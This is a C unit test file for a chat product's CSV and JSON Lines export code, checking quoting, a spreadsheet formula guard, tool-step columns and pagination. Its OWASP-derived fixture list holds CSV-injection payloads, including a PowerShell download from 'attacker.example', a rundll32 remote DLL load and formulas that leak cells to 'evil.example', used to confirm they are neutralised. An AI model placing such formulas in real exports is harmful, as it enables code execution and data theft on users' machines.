/*
 * The export rows (exportrows.c) that the HTTP export and parleyctl
 * export both write: CSV fields and their formula guard, the header
 * rows, conversations and messages as CSV and as JSON Lines (a tool
 * step's origin among them); where a messages export's next request
 * goes on.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdlib.h>
#include <string.h>

#include "agentmsg.h"
#include "exportrows.h"
#include "test_util.h"

/* Appends the header row of fmt and rows. */
static void
header(struct penc *e, enum export_format fmt, enum export_rows rows)
{
	const char *h = exprow_header(fmt, rows);

	penc_raw(e, h, strlen(h));
}

/* What e holds, as a string (e keeps it). */
static char *
text(struct penc *e)
{
	penc_raw(e, "", 1);
	assert_false(e->err);
	return (char *)e->buf;
}

static char *
field(const char *s)
{
	static char out[256];
	struct penc e;

	penc_init(&e);
	exprow_csv_field(&e, s);
	strlcpy(out, text(&e), sizeof(out));
	penc_free(&e);
	return out;
}

static void
test_export_csv_field(void **state)
{
	assert_string_equal(field(""), "");
	assert_string_equal(field("plain text"), "plain text");
	assert_string_equal(field("a,b"), "\"a,b\"");
	assert_string_equal(field("say \"hi\""), "\"say \"\"hi\"\"\"");
	assert_string_equal(field("two\nlines"), "\"two\nlines\"");
	assert_string_equal(field("cr\rhere"), "\"cr\rhere\"");
	assert_string_equal(field("h\xc3\xa9llo"), "h\xc3\xa9llo");
	/* Formulas are defused. */
	assert_string_equal(field("=1+1"), "'=1+1");
	assert_string_equal(field("+1"), "'+1");
	assert_string_equal(field("-1"), "'-1");
	assert_string_equal(field("@SUM(A1)"), "'@SUM(A1)");
	assert_string_equal(field("\tx"), "'\tx");
	assert_string_equal(field("\rx"), "\"'\rx\"");
	assert_string_equal(field("=HYPERLINK(\"x\",\"y\")"),
	    "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
	/* After spaces a spreadsheet may trim: U+00A0, U+3000, U+2028, BOM. */
	assert_string_equal(field("\xc2\xa0=1+1"), "\xc2\xa0'=1+1");
	assert_string_equal(field("\xe3\x80\x80 @SUM(A1)"),
	    "\xe3\x80\x80 '@SUM(A1)");
	assert_string_equal(field("x;\xe2\x80\xa8-1"),
	    "\"x;\xe2\x80\xa8'-1\"");
	assert_string_equal(field("\xef\xbb\xbf+1"), "\xef\xbb\xbf'+1");
	/* Only at the start; a letter ends it (U+00E9 is not a space). */
	assert_string_equal(field("1=1"), "1=1");
	assert_string_equal(field("\xc3\xa9=1"), "\xc3\xa9=1");
	/* Not UTF-8: U+FFFD. */
	assert_string_equal(field("a\x80z"), "a\xef\xbf\xbdz");
}

/*
 * The OWASP CSV-injection payloads (owasp.org/www-community/attacks/
 * CSV_Injection, and the usual lists built on it), and the same cut
 * where a spreadsheet may split a cell.
 */
static const char *const owasp[] = {
	"=cmd|' /C calc'!A0",
	"=cmd|' /C notepad'!'A1'",
	"=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
	"=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"@SUM(1+9)*cmd|' /C calc'!A0",
	"=10+20+cmd|' /C calc'!A0",
	"+1+1",
	"-1+1",
	"-2+3+cmd|' /C calc'!A0",
	"+cmd|' /C calc'!A0",
	"DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
	"=DDE(\"cmd\";\"/C calc\";\"!A0\")",
	"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
	"=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)),"
	    " \"//a\")",
	"=IMAGE(\"http://evil.example/x.png\")",
	"x;=HYPERLINK(\"http://evil.example\")",
	"x,=HYPERLINK(\"http://evil.example\")",
	"x\t=1+1",
	"x; =1+1",
	"x;\"=1+1\"",
	"x,\"@SUM(1)\"",
	"a\n=1+1",
	"a\r\n=1+1",
	"a\r=1+1",
	"a\n\n-1+1",
	"a\n \"+1",
	"\t=1+1",
	"\r=1+1",
	"\r\n=1+1",
	" =1+1",
	"\"=1+1\"",
	"'=1+1",
	"=1+1;=2+2,=3+3\t=4+4\n=5+5\r=6+6",
};

/*
 * s is inert: no cell a spreadsheet may cut from it (at a comma, a
 * semicolon, a TAB or a line end, then past quotes and spaces) starts
 * with a formula's first byte.
 */
static void
assert_inert(const char *s)
{
	const char *p = s;

	for (;;) {
		while (*p == '"' || *p == ' ')
			p++;
		if (*p != '\0' && strchr("=+-@", *p) != NULL)
			fail_msg("live cell at %zu of [%s]", (size_t)(p - s), s);
		p += strcspn(p, ",;\t\r\n");
		if (*p == '\0')
			return;
		p++;
	}
}

/* The RFC 4180 reading of one field f: s with the guard's ' added. */
static void
assert_reads_back(const char *f, const char *s)
{
	char back[512];
	size_t o = 0;
	const char *p = f;

	if (*p == '"') {
		for (p++; *p != '\0'; p++) {
			if (*p == '"' && p[1] == '"')
				p++;
			else if (*p == '"')
				break;
			back[o++] = *p;
		}
		assert_int_equal(*p, '"');
		assert_int_equal(p[1], '\0');
	} else {
		assert_int_equal(strcspn(f, ",;\"\r\n"), strlen(f));
		o = strlcpy(back, f, sizeof(back));
	}
	back[o] = '\0';
	/* Without its ' marks, the text is what was given. */
	for (p = back, o = 0; *p != '\0'; p++)
		if (*p != '\'' || p[1] == '\0' ||
		    strchr("=+-@\t\r", p[1]) == NULL || s[o] == '\'')
			assert_int_equal(*p, s[o++]);
	assert_int_equal(s[o], '\0');
}

static void
test_export_csv_owasp(void **state)
{
	size_t i;

	for (i = 0; i < sizeof(owasp) / sizeof(owasp[0]); i++) {
		assert_inert(field(owasp[i]));
		assert_reads_back(field(owasp[i]), owasp[i]);
	}
	/* Where the marks go. */
	assert_string_equal(field("x;=1"), "\"x;'=1\"");
	assert_string_equal(field("a\r\n=1"), "\"a\r\n'=1\"");
	assert_string_equal(field("x; \"-1"), "\"x; \"\"'-1\"");
	assert_string_equal(field("x\t@a"), "x\t'@a");
	assert_string_equal(field("a;b"), "\"a;b\"");
	assert_string_equal(field("a - b"), "a - b");
}

static void
test_export_rows(void **state)
{
	enum export_format fmt;
	enum export_rows rows;
	struct st_conv c;
	struct st_msg m;
	struct penc b;

	fmt = EXPORT_CSV;
	rows = EXPORT_CONVS;
	penc_init(&b);
	header(&b, fmt, rows);
	test_fill_conv(&c, 1, 2, "hi, \"you\"");
	assert_int_equal(exprow_conv(&b, fmt, &c), 0);
	strlcpy(c.contact_id, "0000000000000000000000000000abcd",
	    sizeof(c.contact_id));
	fmt = EXPORT_JSONL;
	assert_int_equal(exprow_conv(&b, fmt, &c), 0);
	st_conv_free(&c);
	test_fill_conv(&c, 2, 0, "");
	c.handoff = ST_HANDOFF_WAITING;
	c.rating = 4;		/* issue 26: the visitor's rating */
	c.rating_comment = strdup("ok, thanks");
	c.conv_state = ST_STATE_RESOLVED;
	c.resolved_by = ST_RESOLVED_ASSISTANT;
	c.resolved_at = 1700000000600;
	assert_non_null(c.rating_comment);
	assert_int_equal(exprow_conv(&b, fmt, &c), 0);
	st_conv_free(&c);
	assert_string_equal(text(&b),
	    "id,widgetId,sessionId,contactId,createdAt,updatedAt,"
	    "messageCount,lastMessage,handoff,rating,ratingComment,state,"
	    "snoozedUntil,resolvedBy,resolvedAt\r\n"
	    "00000000000000000000000000000001,default,sha256:abe633f3a47a2758174eabe9,,1700000000001,"
	    "1700000000501,2,\"hi, \"\"you\"\"\",ai,,,open,,,\r\n"
	    "{\"id\":\"00000000000000000000000000000001\","
	    "\"widgetId\":\"default\",\"sessionId\":\"sha256:abe633f3a47a2758174eabe9\","
	    "\"contactId\":\"0000000000000000000000000000abcd\","
	    "\"createdAt\":1700000000001,\"updatedAt\":1700000000501,"
	    "\"messageCount\":2,\"lastMessage\":\"hi, \\\"you\\\"\","
	    "\"handoff\":\"ai\",\"rating\":null,\"ratingComment\":null,"
	    "\"state\":\"open\",\"snoozedUntil\":null,\"resolvedBy\":null,"
	    "\"resolvedAt\":null}\n"
	    "{\"id\":\"00000000000000000000000000000002\","
	    "\"widgetId\":\"default\",\"sessionId\":\"sha256:2b8ea975811361aee25cfeb5\","
	    "\"contactId\":null,\"createdAt\":1700000000002,"
	    "\"updatedAt\":1700000000502,\"messageCount\":0,"
	    "\"lastMessage\":\"\",\"handoff\":\"waiting_human\","
	    "\"rating\":4,\"ratingComment\":\"ok, thanks\","
	    "\"state\":\"resolved\",\"snoozedUntil\":null,"
	    "\"resolvedBy\":\"assistant\",\"resolvedAt\":1700000000600}\n");
	penc_free(&b);

	penc_init(&b);
	rows = EXPORT_MSGS;
	fmt = EXPORT_CSV;
	header(&b, fmt, rows);
	test_fill_msg(&m, 7, 1, "=cmd|' /C calc'!A0\r\nline");
	m.feedback = ST_FEEDBACK_UP;	/* issue 26: the visitor's thumb */
	assert_int_equal(exprow_msg(&b, fmt, &m), 0);
	fmt = EXPORT_JSONL;
	header(&b, fmt, rows);		/* nothing for JSON Lines */
	assert_int_equal(exprow_msg(&b, fmt, &m), 0);
	st_msg_free(&m);
	test_fill_msg(&m, 7, 2, "caf\xc3\xa9 \xe2\x80\xa8 \x01");
	strlcpy(m.role, "agent", sizeof(m.role));	/* a person's reply */
	strlcpy(m.name, "Ann", sizeof(m.name));
	assert_int_equal(exprow_msg(&b, fmt, &m), 0);
	st_msg_free(&m);
	assert_string_equal(text(&b),
	    "id,conversationId,role,status,content,createdAt,promptTokens,"
	    "completionTokens,name,feedback,sources,knowledge,arguments,"
	    "durationMs,origin\r\n"
	    "000000000000000000000000000003e9,"
	    "00000000000000000000000000000007,assistant,complete,"
	    "\"'=cmd|' /C calc'!A0\r\nline\",1700000001001,1,2,,up,,none,,,\r\n"
	    "{\"id\":\"000000000000000000000000000003e9\","
	    "\"conversationId\":\"00000000000000000000000000000007\","
	    "\"role\":\"assistant\",\"status\":\"complete\","
	    "\"content\":\"=cmd|' /C calc'!A0\\r\\nline\","
	    "\"createdAt\":1700000001001,\"promptTokens\":1,"
	    "\"completionTokens\":2,\"name\":null,\"feedback\":\"up\","
	    "\"sources\":null,\"knowledge\":\"none\",\"arguments\":null,"
	    "\"durationMs\":null,\"origin\":null}\n"
	    "{\"id\":\"000000000000000000000000000003ea\","
	    "\"conversationId\":\"00000000000000000000000000000007\","
	    "\"role\":\"agent\",\"status\":\"complete\","
	    "\"content\":\"caf\xc3\xa9 \xe2\x80\xa8 \\u0001\","
	    "\"createdAt\":1700000001002,\"promptTokens\":2,"
	    "\"completionTokens\":4,\"name\":\"Ann\",\"feedback\":null,"
	    "\"sources\":null,\"knowledge\":null,\"arguments\":null,"
	    "\"durationMs\":null,\"origin\":null}\n");
	penc_free(&b);
}

/* Hand-made records: small numbers, a byte that is not UTF-8. */
static void
test_ctl_rows(void **state)
{
	struct st_conv c;
	struct st_msg m;
	struct penc e;

	memset(&c, 0, sizeof(c));
	strlcpy(c.id, "00112233445566778899aabbccddeeff", sizeof(c.id));
	strlcpy(c.widget, "default", sizeof(c.widget));
	strlcpy(c.session, "s1", sizeof(c.session));
	c.created_at = 1;
	c.updated_at = 2;
	c.message_count = 3;
	c.last_message = "=SUM(A1), \"hi\"\n\xff";
	penc_init(&e);
	header(&e, EXPORT_CSV, EXPORT_CONVS);
	assert_int_equal(exprow_conv(&e, EXPORT_CSV, &c), 0);
	assert_int_equal(exprow_conv(&e, EXPORT_JSONL, &c), 0);
	assert_string_equal(text(&e), "id,widgetId,sessionId,contactId,"
	    "createdAt,updatedAt,messageCount,lastMessage,handoff,rating,"
	    "ratingComment,state,snoozedUntil,resolvedBy,resolvedAt\r\n"
	    "00112233445566778899aabbccddeeff,default,sha256:e8bc163c82eee18733288c7d,,1,2,3,"
	    "\"'=SUM(A1), \"\"hi\"\"\n\xef\xbf\xbd\",ai,,,open,,,\r\n"
	    "{\"id\":\"00112233445566778899aabbccddeeff\",\"widgetId\":"
	    "\"default\",\"sessionId\":\"sha256:e8bc163c82eee18733288c7d\",\"contactId\":null,"
	    "\"createdAt\":1,\"updatedAt\":2,\"messageCount\":3,"
	    "\"lastMessage\":\"=SUM(A1), \\\"hi\\\"\\n\xef\xbf\xbd\","
	    "\"handoff\":\"ai\",\"rating\":null,\"ratingComment\":null,"
	    "\"state\":\"open\",\"snoozedUntil\":null,\"resolvedBy\":null,"
	    "\"resolvedAt\":null}\n");
	penc_free(&e);

	memset(&m, 0, sizeof(m));
	strlcpy(m.id, c.id, sizeof(m.id));
	strlcpy(m.conv_id, c.id, sizeof(m.conv_id));
	strlcpy(m.role, "user", sizeof(m.role));
	strlcpy(m.status, "complete", sizeof(m.status));
	m.created_at = 5;
	m.prompt_tokens = 7;
	m.content = "-1";
	penc_init(&e);
	assert_int_equal(exprow_msg(&e, EXPORT_CSV, &m), 0);
	assert_string_equal(text(&e), "00112233445566778899aabbccddeeff,"
	    "00112233445566778899aabbccddeeff,user,complete,'-1,5,7,0,,,,,,,\r\n");
	penc_free(&e);
	assert_string_equal(exprow_header(EXPORT_JSONL, EXPORT_MSGS), "");
}

/*
 * A tool step says whose tool ran (format 10's origin): "page", one the
 * visitor's page registered, or "action", the owner's (an older record's
 * 0); as the last column, after durationMs, so the columns before it stay
 * where they were. Other messages have none.
 */
static void
test_tool_rows(void **state)
{
	struct st_msg m;
	struct penc e;

	(void)state;
	test_fill_msg(&m, 9, 4, "Refund issued");
	strlcpy(m.role, "tool", sizeof(m.role));
	strlcpy(m.name, "issue_refund", sizeof(m.name));
	m.arguments = "{\"order_id\":\"7\"}";
	m.duration_ms = 12;
	m.tool_origin = ST_TOOL_FROM_PAGE;
	penc_init(&e);
	header(&e, EXPORT_CSV, EXPORT_MSGS);
	assert_int_equal(exprow_msg(&e, EXPORT_CSV, &m), 0);
	assert_int_equal(exprow_msg(&e, EXPORT_JSONL, &m), 0);
	m.tool_origin = ST_TOOL_FROM_ACTION;
	strlcpy(m.name, "refund_lookup", sizeof(m.name));
	assert_int_equal(exprow_msg(&e, EXPORT_CSV, &m), 0);
	assert_int_equal(exprow_msg(&e, EXPORT_JSONL, &m), 0);
	m.arguments = NULL;
	st_msg_free(&m);
	assert_string_equal(text(&e),
	    "id,conversationId,role,status,content,createdAt,promptTokens,"
	    "completionTokens,name,feedback,sources,knowledge,arguments,"
	    "durationMs,origin\r\n"
	    "000000000000000000000000000003ec,"
	    "00000000000000000000000000000009,tool,complete,Refund issued,"
	    "1700000001004,4,8,issue_refund,,,,\"{\"\"order_id\"\":\"\"7\"\"}\","
	    "12,page\r\n"
	    "{\"id\":\"000000000000000000000000000003ec\","
	    "\"conversationId\":\"00000000000000000000000000000009\","
	    "\"role\":\"tool\",\"status\":\"complete\","
	    "\"content\":\"Refund issued\",\"createdAt\":1700000001004,"
	    "\"promptTokens\":4,\"completionTokens\":8,"
	    "\"name\":\"issue_refund\",\"feedback\":null,\"sources\":null,"
	    "\"knowledge\":null,\"arguments\":\"{\\\"order_id\\\":\\\"7\\\"}\","
	    "\"durationMs\":12,\"origin\":\"page\"}\n"
	    "000000000000000000000000000003ec,"
	    "00000000000000000000000000000009,tool,complete,Refund issued,"
	    "1700000001004,4,8,refund_lookup,,,,\"{\"\"order_id\"\":\"\"7\"\"}\","
	    "12,action\r\n"
	    "{\"id\":\"000000000000000000000000000003ec\","
	    "\"conversationId\":\"00000000000000000000000000000009\","
	    "\"role\":\"tool\",\"status\":\"complete\","
	    "\"content\":\"Refund issued\",\"createdAt\":1700000001004,"
	    "\"promptTokens\":4,\"completionTokens\":8,"
	    "\"name\":\"refund_lookup\",\"feedback\":null,\"sources\":null,"
	    "\"knowledge\":null,\"arguments\":\"{\\\"order_id\\\":\\\"7\\\"}\","
	    "\"durationMs\":12,\"origin\":\"action\"}\n");
	penc_free(&e);
}

/*
 * exprow_pages_next: on within a conversation, at a later one, past the
 * ids asked (done), and a reply that does not move on passes one over.
 */
static void
test_pages_next(void **state)
{
	uint32_t from = 2;

	assert_int_equal(exprow_pages_next(3, &from, 0, 5), 0);
	assert_int_equal(from, 5);
	assert_int_equal(exprow_pages_next(3, &from, 2, 0), 2);
	assert_int_equal(from, 0);
	from = 7;
	assert_int_equal(exprow_pages_next(3, &from, 1, 4), 1);
	assert_int_equal(from, 4);
	assert_int_equal(exprow_pages_next(3, &from, 3, 0), 3);
	assert_int_equal(exprow_pages_next(3, &from, 9, 9), 3);
	/* Not moving on: the same place, or an earlier one. */
	from = 4;
	assert_int_equal(exprow_pages_next(3, &from, 0, 4), 1);
	assert_int_equal(from, 0);
	from = 4;
	assert_int_equal(exprow_pages_next(1, &from, 0, 1), 1);
	assert_int_equal(from, 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_export_csv_field),
		cmocka_unit_test(test_export_csv_owasp),
		cmocka_unit_test(test_export_rows),
		cmocka_unit_test(test_ctl_rows),
		cmocka_unit_test(test_tool_rows),
		cmocka_unit_test(test_pages_next),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
